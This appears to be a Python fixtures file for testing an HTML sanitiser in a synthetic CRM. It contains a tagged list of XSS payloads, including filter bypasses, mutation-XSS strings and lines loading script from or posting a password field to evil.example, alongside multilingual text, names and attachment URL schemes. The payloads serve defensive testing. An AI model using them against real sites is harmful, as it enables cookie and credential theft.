"""Fixed material of the synthetic CRM: hostile payloads, scripts of the world, names.

Each XSS payload is tagged with the hard case it exercises (SPEC §5 "Remove").
"""

from __future__ import annotations

#: (hard case, HTML fragment). Every one must come out of sanitising unable to run script.
XSS_PAYLOADS: tuple[tuple[str, str], ...] = (
    ("xss_script", "<script>alert(document.cookie)</script>"),
    ("xss_script", '<p>Harga final<script src="https://evil.example/x.js"></script> sudah dikirim.</p>'),
    ("xss_script", "<<script>script>alert(1)<</script>/script>"),
    ("xss_script", "<scr<script>ipt>alert(1)</script>"),
    ("xss_script", "<template><script>alert(1)</script></template>"),
    ("xss_on_handler", "<img src=x onerror=alert(1)>"),
    ("xss_on_handler", '<p onclick="alert(1)" onmouseover="steal()">Klik di sini untuk detail</p>'),
    ("xss_on_handler", '<img src="x" onerror="&#97;lert(1)">'),
    ("xss_on_handler", "<body onload=alert(1)><p>body</p>"),
    ("xss_js_url", '<a href="javascript:alert(1)">lihat dokumen</a>'),
    ("xss_js_url", '<a href="JaVaScRiPt:alert(1)">Open file</a>'),
    ("xss_js_url", '<a href="java&#x09;script:alert(1)">tab split</a>'),
    ("xss_js_url", '<a href=" javascript:alert(1)">leading space</a>'),
    ("xss_js_url", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>'),
    ("xss_js_url", '<base href="javascript:alert(1)//"><a href="/x">relative</a>'),
    ("xss_vbscript_url", '<a href="vbscript:msgbox(1)">vb</a>'),
    ("xss_data_url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lampiran</a>'),
    ("xss_data_url", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>'),
    ("xss_svg", '<svg onload=alert(1)><circle r="10"/></svg>'),
    ("xss_svg", "<svg><script>alert(1)</script></svg>"),
    ("xss_svg", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    ("xss_iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("xss_iframe", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    (
        "xss_iframe",
        '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
    ),
    ("xss_style", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("xss_style", '<div style="background-image: url(javascript:alert(1))">styled</div>'),
    ("xss_mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    (
        "xss_mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    ("xss_mutation", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    (
        "xss_mutation",
        '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></form></mtext></math></form>',
    ),
    (
        "xss_other",
        '<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(1)">Kirim</button></form>',
    ),
    ("xss_other", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'),
    ("xss_other", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("xss_other", "<!--<img src=x onerror=alert(1)>--><p>komentar</p>"),
)
XSS_KINDS: tuple[str, ...] = tuple(dict.fromkeys(kind for kind, _ in XSS_PAYLOADS))

#: Text with C0/C1 control characters (not tab, LF, CR: those are kept) and NEL/CSI.
CONTROL_SNIPPETS: tuple[str, ...] = (
    "Catatan\x07 rapat",
    "\x1b[31mPENTING\x1b[0m hubungi lagi",
    "kolom\x0bvertikal\x0cform feed",
    "hapus\x7f karakter\x01\x02\x03",
    "next\u0085line and \u009bcsi",
    "tab\tstays, CR\r\nLF stays\x08\x1f",
)

CJK_SENTENCES: tuple[str, ...] = (
    "客户要求下周提供新的报价单。",
    "来週の打ち合わせで契約書を確認します。",
    "담당자가 월요일에 다시 연락하기로 했습니다.",
    "請確認發票地址與統一編號是否正確。",
)
RTL_SENTENCES: tuple[str, ...] = (
    "العميل طلب عرض سعر جديد للمشروع الأسبوع القادم.",
    "נא לאשר את כתובת החשבונית עד יום חמישי.",
    "تم استلام الدفعة الأولى، شكرا لكم 123 ريال.",
)
EMOJI: tuple[str, ...] = (
    "🙂",
    "👍🏽",
    "🔥",
    "✅",
    "📞",
    "👨‍👩‍👧‍👦",
    "🇮🇩",
    "❤️",
    "🤝",
    "📎",
    "🧾",
    "🚚",
)

FIRST_NAMES: tuple[str, ...] = (
    "Budi",
    "Siti",
    "Ani",
    "Agus",
    "Dewi",
    "Rizky",
    "Putri",
    "Wahyu",
    "Nur'aini",
    "Eko",
    "Sri",
    "Bambang",
    "Ayu",
    "Yohanes",
    "Ketut",
    "Made",
    "Sarah",
    "Michael",
    "Chen",
    "Fatimah",
)
LAST_NAMES: tuple[str, ...] = (
    "Santoso",
    "Rahmawati",
    "Wijaya",
    "Saputra",
    "Hidayat",
    "Kusuma",
    "Pratama",
    "Nugroho",
    "Siregar",
    "Simanjuntak",
    "Tan",
    "O'Neil",
    "Lim",
    "Harahap",
    "Gunawan",
)
#: Names that are hard to carry through HTML attributes and text.
ODD_NAMES: tuple[str, ...] = ("王小明", "محمد العلي", 'Ani "Mbak" & Co', "Zoë Ñúñez", "Dian 🌸")

FILE_NAMES: tuple[tuple[str, str | None], ...] = (
    ("Penawaran Harga Q3 (final) v2.pdf", "application/pdf"),
    ("kontrak_kerjasama.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("foto kunjungan.jpg", "image/jpeg"),
    ("見積書.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("عقد.pdf", "application/pdf"),
    ("screenshot 🙂.png", "image/png"),
    ("invoice#42.pdf", None),
    ("notes", None),
)
#: (hard case, URL prefix); weights live in the generator.
ATTACHMENT_SCHEMES: tuple[tuple[str, str], ...] = (
    ("attachment_https", "https://files.crm-legacy.example/att/"),
    ("attachment_http", "http://files.crm-legacy.example/att/"),
    ("attachment_https_uppercase", "HTTPS://files.crm-legacy.example/att/"),
    ("attachment_ftp", "ftp://ftp.crm-legacy.example/pub/"),
    ("attachment_javascript", "javascript:alert(1)//"),
    ("attachment_file", "file:///C:/Users/sales/Documents/"),
    ("attachment_data", "data:text/plain;base64,SGVsbG8="),
)
ATTACHMENT_WEIGHTS: tuple[float, ...] = (0.80, 0.09, 0.02, 0.03, 0.02, 0.02, 0.02)
